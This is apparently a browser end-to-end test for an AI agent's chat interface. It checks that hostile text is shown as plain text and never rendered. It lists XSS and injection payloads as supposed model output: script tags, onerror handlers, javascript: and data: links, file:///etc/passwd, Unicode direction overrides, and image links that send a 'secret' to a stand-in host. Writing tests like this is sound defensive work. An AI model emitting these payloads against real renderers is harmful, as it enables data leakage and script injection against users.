//! Texts that want to be more than text: they are drawn as what they are, and nothing is asked of anybody.

import type { Page } from "playwright-core";
import { afterEach, expect, it } from "vitest";
import { Stage } from "./stage";

let stage: Stage;

afterEach(async () => {
  // Whatever was asked of another server is a complaint.
  const complaints = stage.complaints.filter((said) => !/status of 40[34]/.test(said));
  await stage.end();
  expect(complaints).toEqual([]);
});

const AT = "https://leak.example";

/** What the model writes, and what of it is to be read. */
const WRITTEN: [text: string, read: string][] = [
  [`![a cat](${AT}/?q=secret)`, "a cat"],
  [`![](${AT}/pixel.png)`, `${AT}/pixel.png`],
  [`<img src="${AT}/x.png" onerror="window.broken = 1">`, "<img src="],
  ["<script>window.broken = 2</script>", "<script>window.broken = 2</script>"],
  [`<iframe src="${AT}"></iframe>`, "<iframe src="],
  ['<svg onload="window.broken = 3"><foreignObject></foreignObject></svg>', "<svg onload="],
  [`<style>@import url(${AT}/a.css); body { display: none }</style>`, "<style>@import"],
  [`<link rel="stylesheet" href="${AT}/a.css"><base href="${AT}">`, "<link rel="],
  [`<meta http-equiv="refresh" content="0;url=${AT}">`, "<meta http-equiv="],
  [`<form action="${AT}"><button>Allow once</button></form>`, "<form action="],
  ["[press one](javascript:window.broken=4)", "press one"],
  ["[press two](JaVaScRiPt:window.broken=5)", "press two"],
  ["[press three](&#106;avascript:window.broken=6)", "press three"],
  ["[press four](<java\tscript:window.broken=7>)", "press four"],
  ["[press five](data:text/html,<script>window.broken=8</script>)", "press five"],
  ["[press six](vbscript:window.broken=9)", "press six"],
  ["[press seven](file:///etc/passwd)", "press seven"],
  ["[press eight][ref]\n\n[ref]: javascript:window.broken=10", "press eight"],
  ["<javascript:window.broken=11>", "javascript:window.broken=11"],
  [`| cell |\n|---|\n| <img src=x onerror=window.broken=12> ![in a table](${AT}/t.png) |`, "in a table"],
  [`\`\`\`html"><script>window.broken=13</script>\n<b onclick="window.broken=14">code</b>\n\`\`\``, "<b onclick="],
  ["**bold <img src=x onerror=window.broken=15>**", "bold <img"],
  ["&lt;script&gt;window.broken=16&lt;/script&gt;", "<script>window.broken=16</script>"],
  ["gnp.\u202Etxt.exe", "gnp."],
  ["a\u200bb\u2066c\u0007d", "a"],
  [`${"[".repeat(2_000)}deep`, "deep"],
  [`${"> ".repeat(300)}quoted`, "quoted"],
];

/** A name as nobody would give a file. */
const NAME = "<img src=x onerror=window.broken=20> \u202Egnp.rs";

/** Nothing of it has become a part of the page that it is not to be. */
async function isText(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    broken: (window as unknown as { broken?: number }).broken,
    parts: [
      ...document.querySelectorAll("img, iframe, object, embed, base, form, foreignObject, meta[http-equiv]"),
    ].map((part) => part.outerHTML.slice(0, 200)),
    scripts: document.querySelectorAll("script:not([src]), script[src*='//']").length,
    handlers: [...document.querySelectorAll("*")].filter((part) =>
      [...part.attributes].some(({ name }) => name.startsWith("on")),
    ).length,
    links: [...document.querySelectorAll("a[href]")]
      .map((link) => (link as HTMLAnchorElement).protocol)
      .filter((protocol) => !/^(?:https?|mailto):$/.test(protocol)),
    elsewhere: [...document.querySelectorAll("a[href^='http']")].filter(
      (link) => link.getAttribute("target") !== "_blank" || !link.getAttribute("rel")?.includes("noopener"),
    ).length,
    wide: document.documentElement.scrollWidth - innerWidth,
  }));
  expect(found).toEqual({
    broken: undefined,
    parts: [],
    scripts: 0,
    handlers: 0,
    links: [],
    elsewhere: 0,
    wide: 0,
  });
}

it("draws what is hostile as text, wherever it stands", async () => {
  stage = await Stage.playing(
    [
      ...WRITTEN.map(([text], at) => ({ say: `${text}\n\nend ${at}` })),
      {
        calls: [
          { name: "write_file", arguments: { path: NAME, content: "fn main() {} // \u202Egnp\u200b.rs <b>x</b>\n" } },
        ],
      },
      {
        calls: [
          {
            name: "bash",
            arguments: {
              command:
                "printf '\\033]0;title\\007\\033[31mred\\033[0m \\033[2J<img src=x onerror=window.broken=21>\\n'; head -c 400000 /dev/zero | tr '\\0' x # \u202Eshow me\u200b",
            },
          },
        ],
      },
      { say: "All done." },
    ],
    { "README.md": "# here\n" },
  );
  const page = await stage.signedIn();
  const field = page.getByRole("textbox", { name: /Say what you want done|Your message/ });
  await field.fill("<b>bold</b> <img src=x onerror=window.broken=30>");
  await page.keyboard.press("Enter");
  for (const [at, [, read]] of WRITTEN.entries()) {
    const answer = page.locator(".track .prose", { hasText: `end ${at}` }).last();
    await answer.waitFor();
    expect(await answer.textContent(), read).toContain(read);
    await isText(page);
    await field.fill(`next ${at}`);
    await page.keyboard.press("Enter");
  }

  // What is asked writes out what can't be seen.
  const dock = page.getByRole("region", { name: "Waits for your decision" });
  await dock.getByText("would make a file").waitFor();
  expect(await dock.textContent()).toContain("U+202E");
  expect(await dock.textContent()).toContain("U+200B");
  await isText(page);
  await dock.getByRole("button", { name: "Allow once" }).click();
  await dock.getByText("would run a command").waitFor();
  expect(await dock.locator(".cmd").textContent()).toContain("U+202E");
  await dock.getByRole("button", { name: "Allow once" }).click();
  await page.getByText("All done.").waitFor();
  await isText(page);

  const home = page.url();
  await page.goto(`${home}/terminal`);
  await page.locator(".row-line", { hasText: "<img src=x onerror=window.broken=21>" }).waitFor();
  await isText(page);
  await page.goto(`${home}/files/${encodeURIComponent(NAME)}`);
  await page.locator(".row-line", { hasText: "U+202E" }).waitFor();
  expect(await page.locator(".pane h2").textContent()).toContain("U+202E");
  await isText(page);
  await page.goto(`${home}/prompt`);
  await page.getByText("Who it is").waitFor();
  await isText(page);
  await page.goto(new URL("/", home).href);
  await page.getByRole("navigation", { name: "Sessions" }).getByText("<b>bold</b>").first().waitFor();
  await isText(page);
});
